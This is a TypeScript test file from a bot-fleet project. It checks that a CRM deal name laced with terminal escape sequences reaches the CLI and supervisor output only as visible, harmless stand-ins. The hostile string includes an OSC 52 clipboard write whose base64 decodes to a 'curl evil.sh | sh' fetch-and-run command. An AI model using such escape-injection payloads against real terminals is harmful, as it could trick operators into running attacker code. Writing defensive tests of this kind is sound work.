import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import postgres from 'postgres';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApprovals, createLocalRecordingChannel, createPostgresDb, repositoryRoot, type Db } from '@jbot/core';
import { loadSampleCompany } from '@jbot/connectors';
import { freshDatabase, waitFor, type TestDatabase } from '@jbot/testkit';

const cli = path.join(repositoryRoot, 'packages', 'cli', 'src', 'main.ts');
const silent = pino({ level: 'silent' });

// A deal name as an attacker would type it into the CRM: retitle the window (OSC 0), clear the
// screen (CSI 2J), write the operator's clipboard (OSC 52), and a C1 CSI (U+009B) for terminals
// that honour 8-bit controls.
const HOSTILE = 'Whole Harvest Market\u001b]0;pwned\u0007\u001b[2J\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u009b31m';
const SHOWN = 'Whole Harvest Market␛]0;pwned␇␛[2J␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇\ufffd31m';
// Every C0 control but tab and newline, DEL, and every C1 control.
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

// The local fleet as a newcomer runs it: `fleet start` supervising salesbot (local channel, so its
// posts print to the console), `fleet demo monday` and `fleet approvals` in another terminal.
// The hostile deal name travels through the sync, the stale_deals signal, the channel post, the
// supervisor's relay, an approval title and the CLI's tables; it shows, and never acts.
describe('an escape sequence in a deal name', () => {
  let database: TestDatabase;
  let db: Db;
  let sql: postgres.Sql;
  let supervisor: ChildProcess | undefined;
  let console = '';

  beforeAll(async () => {
    database = await freshDatabase();
    db = createPostgresDb({ url: database.url, poolMax: 2 });
    sql = postgres(database.url, { max: 1, onnotice: () => {} });
    await loadSampleCompany(db);
    const renamed =
      await sql`update sample_deals set name = ${`${HOSTILE} — Holiday program (Driftwood Candle Co.)`} where name = 'Whole Harvest Market — Holiday program (Driftwood Candle Co.)' returning id`;
    expect(renamed).toHaveLength(1);
  });
  afterAll(async () => {
    if (supervisor !== undefined && supervisor.exitCode === null) supervisor.kill('SIGKILL');
    await sql.end();
    await db.close();
    await database.drop();
  });

  it('reaches no terminal raw: not the local channel through the supervisor, not the CLI', async () => {
    const env = {
      ...process.env,
      DATABASE_URL: database.url,
      FLEET_HOST_ID: 'test-host',
      // Its own data directory: the supervisor lock is per directory, and other tests start fleets too.
      FLEET_DATA_DIR: fs.mkdtempSync(path.join(os.tmpdir(), 'jbot-escape-')),
      SIGNAL_POLL_MS: '200',
      HEARTBEAT_INTERVAL_MS: '1000',
      LOG_LEVEL: 'info',
    };
    supervisor = spawn(process.execPath, ['--import', 'tsx', cli, 'start', '--bots', 'salesbot', '--from-source', '--no-dashboard'], {
      cwd: repositoryRoot,
      env,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    supervisor.stdout?.on('data', (chunk: Buffer) => (console += chunk.toString()));
    supervisor.stderr?.on('data', (chunk: Buffer) => (console += chunk.toString()));
    await waitFor(async () => ((await sql`select 1 from bot_heartbeats where bot = 'salesbot' and status = 'running'`).length === 1 ? true : undefined), {
      what: 'salesbot up',
      timeoutMs: 90_000,
      intervalMs: 200,
    });

    // An approval whose title carries the name (as a drafted follow-up's would): `fleet approvals` lists it.
    const approvals = createApprovals({
      db,
      bot: 'salesbot',
      log: silent,
      channel: createLocalRecordingChannel({ db, bot: 'salesbot', target: '#sales-bot', log: silent, show: () => {} }),
    });
    await approvals.request({ action: 'send_followups', title: `Send 1 follow-up: ${HOSTILE}`, draft: { emails: [{ deal: HOSTILE }] } });

    const demo = spawnSync(process.execPath, ['--import', 'tsx', cli, 'demo', 'monday'], { cwd: repositoryRoot, env, encoding: 'utf8', timeout: 90_000 });
    expect(demo.status, demo.stderr).toBe(0);
    const listed = spawnSync(process.execPath, ['--import', 'tsx', cli, 'approvals'], { cwd: repositoryRoot, env, encoding: 'utf8', timeout: 60_000 });
    expect(listed.status, listed.stderr).toBe(0);

    // salesbot's stale-deals post (printed by its local channel) reached the console through the
    // supervisor; the sync's log line follows it.
    await waitFor(() => (/HubSpot sync: \d+ new, 2 stale/.test(console) ? true : undefined), {
      what: 'the stale-deals post relayed',
      timeoutMs: 30_000,
      intervalMs: 100,
    });
    const exited = new Promise<number | null>((resolve) => supervisor?.once('exit', resolve));
    supervisor.kill('SIGINT');
    expect(await exited).toBe(0);

    // Each shows the name with visible stand-ins (the approvals table cuts titles at 60 characters).
    for (const [what, output, shown] of [
      ['fleet start', console, SHOWN],
      ['fleet demo monday', demo.stdout + demo.stderr, SHOWN],
      ['fleet approvals', listed.stdout + listed.stderr, SHOWN.slice(0, 30)],
    ] as const) {
      expect(CONTROL.exec(output)?.[0], `${what} printed a control character`).toBeUndefined();
      expect(output, what).toContain(shown);
    }
  }, 180_000);
});
